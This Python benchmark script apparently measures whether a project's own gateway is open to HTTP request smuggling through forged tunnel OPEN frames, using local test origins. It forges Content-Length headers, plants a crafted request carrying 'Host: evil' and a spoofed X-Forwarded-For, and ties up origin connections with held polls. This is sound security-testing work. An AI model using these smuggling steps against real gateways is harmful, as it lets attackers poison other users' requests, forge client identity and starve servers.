"""Request smuggling through a tunnel OPEN, as a hostile hop peer does it.

A server gateway (sidecar, default flags: anyone may open a hop session)
forwards to a raw-socket origin that answers a request once its head arrived
and then skips the body the head announced (``tests/glue/rawpeers.py``).
The attacker opens a hop session and sends tunnel OPENs by hand; other users
send plain requests through the same gateway (same pooled origin
connections). Figures:

* forged ``Content-Length: 60`` with no body, then 5 legit requests;
* the same with a forged OPEN before each of 5 legit requests;
* a request of the attacker's choosing smuggled in the body of its next
  stream (``Host: evil``, forged ``X-Forwarded-For``, no ``Via``);
* the first figure again with a real aiohttp origin;
* origin connections held by sessions of 256 held polls each (default flags).

Usage:  .venv/bin/python bench/tunnel_framing.py
(``PYTHONPATH=<other checkout>`` measures another version of ``gateway``.)
"""

from __future__ import annotations

import asyncio
import contextlib
import logging
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp

sys.path.append(str(Path(__file__).resolve().parents[1]))  # PYTHONPATH wins

from aiohttp import web

from gateway.config import build_config
from gateway.server import Gateway
from tests.glue.rawpeers import RawOrigin, RawTunnel, raw_session

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: evil\r\nX-Forwarded-For: 6.6.6.6\r\n\r\n"


@contextlib.asynccontextmanager
async def setup(origin_url: str = "") -> AsyncIterator[tuple[RawOrigin, Gateway, RawTunnel]]:
    origin = RawOrigin()
    await origin.start()
    upstream = origin_url or origin.url
    settings = {"listen": "127.0.0.1:0", "upstream": upstream, "log_level": "error"}
    try:
        async with (
            Gateway(build_config("server", settings)) as gateway,
            raw_session(gateway.url) as raw,
        ):
            yield origin, gateway, raw
    finally:
        await origin.close()


@contextlib.asynccontextmanager
async def aiohttp_origin() -> AsyncIterator[str]:
    """A plain aiohttp origin whose handler answers without reading a body (a poll)."""

    async def poll(request: web.Request) -> web.Response:
        return web.Response(text=f"{request.method} {request.raw_path}")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", poll)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


async def forged(raw: RawTunnel, length: bytes = b"60") -> int | None:
    sid = raw.open("GET", b"/attack", [("Host", "x"), ("Content-Length", length)])
    try:
        return (await raw.answer(sid, timeout=5)).status
    except TimeoutError:
        return None


async def legit(http: aiohttp.ClientSession, gateway: Gateway, i: int) -> int:
    try:
        async with http.get(f"{gateway.url}/legit/{i}", timeout=aiohttp.ClientTimeout(5)) as resp:
            await resp.read()
            return resp.status
    except (aiohttp.ClientError, TimeoutError):
        return 0


async def following_after_one(origin_url: str = "") -> tuple[int | None, list[int]]:
    """(the forged OPEN's answer, statuses of the 5 legit requests after it)."""
    async with setup(origin_url) as (_origin, gateway, raw), aiohttp.ClientSession() as http:
        attack = await forged(raw)
        return attack, [await legit(http, gateway, i) for i in range(5)]


async def interleaved(origin_url: str = "") -> list[int]:
    async with setup(origin_url) as (_origin, gateway, raw), aiohttp.ClientSession() as http:
        statuses = []
        for i in range(5):
            await forged(raw)
            statuses.append(await legit(http, gateway, i))
        return statuses


async def held_connections(sessions: int, polls: int) -> tuple[int, int]:
    """(origin connections open, held polls at the origin) once ``sessions`` x ``polls`` settle."""
    async with setup() as (origin, gateway, first), contextlib.AsyncExitStack() as stack:
        raws = [first] + [
            await stack.enter_async_context(raw_session(gateway.url)) for _ in range(sessions - 1)
        ]
        for raw in raws:
            for i in range(polls):
                raw.open("GET", f"/hold/{i}".encode(), [("Host", "x")])
        last, stable_since = -1, asyncio.get_running_loop().time()
        async with asyncio.timeout(30):
            while asyncio.get_running_loop().time() - stable_since < 1.0:
                await asyncio.sleep(0.1)
                if origin.held != last:
                    last, stable_since = origin.held, asyncio.get_running_loop().time()
        result = len(origin.live_connections), origin.max_held
        origin.release.set()
        return result


async def smuggle() -> tuple[int, list[str]]:
    """Requests of the attacker's choosing that reached the origin (count, and what they were)."""
    async with setup() as (origin, _gateway, raw):
        carrier = [("Host", "x"), ("Content-Length", str(len(SMUGGLED)))]
        # Calibrate: how long is the head the gateway sends for the carrier?
        await raw.answer(raw.open("POST", b"/carrier", carrier, body=[SMUGGLED]), timeout=5)
        [conn] = {seen.conn for seen in origin.requests}
        head_len = len(origin.received[conn]) - len(SMUGGLED)
        await raw.answer(
            raw.open("GET", b"/attack", [("Host", "x"), ("Content-Length", str(head_len))]),
            timeout=5,
        )
        with contextlib.suppress(TimeoutError):
            await raw.answer(raw.open("POST", b"/carrier", carrier, body=[SMUGGLED]), timeout=5)
        planted = [s for s in origin.requests if s.target == "/smuggled"]
        return len(planted), [
            f"{s.target} Host={s.header('Host')} Via={s.header('Via')}" for s in planted
        ]


async def main() -> None:
    logging.basicConfig(level=logging.ERROR)
    import gateway

    print(f"gateway package: {Path(gateway.__file__).parent}")
    attack, after_one = await following_after_one()
    print(f"one forged CL 60 OPEN (answer: {attack or 'reset'}), then 5 legit: {after_one}")
    print(f"  -> not answered 200: {sum(s != 200 for s in after_one)}/5")
    each = await interleaved()
    print(f"a forged CL 60 OPEN before each of 5 legit requests: statuses {each}")
    print(f"  -> not answered 200: {sum(s != 200 for s in each)}/5")
    count, what = await smuggle()
    print(f"smuggled request of the attacker's choosing reached the origin: {count} {what}")
    async with aiohttp_origin() as url:
        attack, after_one = await following_after_one(url)
        print(f"aiohttp origin: one forged OPEN ({attack or 'reset'}), then 5 legit: {after_one}")
        each = await interleaved(url)
        print(f"aiohttp origin: a forged OPEN before each of 5 legit requests: {each}")
    for sessions in (1, 2):
        conns, held = await held_connections(sessions, 256)
        print(f"{sessions} session(s) x 256 held polls: {conns} origin connections, {held} held")


if __name__ == "__main__":
    asyncio.run(main())
